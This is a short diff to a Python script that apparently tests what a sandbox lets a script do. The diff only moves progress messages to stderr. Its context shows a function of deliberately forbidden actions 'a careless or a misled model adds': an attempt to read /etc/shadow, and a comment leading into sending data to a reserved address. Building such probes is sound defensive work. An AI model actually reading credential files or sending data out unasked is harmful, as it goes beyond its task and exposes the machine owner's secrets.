@@ -107,14 +107,14 @@ def tried(what, action):
     try:
         action()
     except Exception as error:  # the script goes on, whatever happened
-        print(f"  {what}: {type(error).__name__}: {error}")
+        print(f"  {what}: {type(error).__name__}: {error}", file=sys.stderr)
     else:
-        print(f"  {what}: worked")
+        print(f"  {what}: worked", file=sys.stderr)
 
 
 def not_asked_for():
     """Forbidden on purpose: what a careless or a misled model adds to its script."""
-    print("\nnobody asked for this:")
+    print("\nnobody asked for this:", file=sys.stderr, flush=True)
     # A look at the passwords of the machine.
     tried("read /etc/shadow", lambda: open("/etc/shadow").read())
     # The data leaves the house. The address is reserved for documents: nobody answers there.
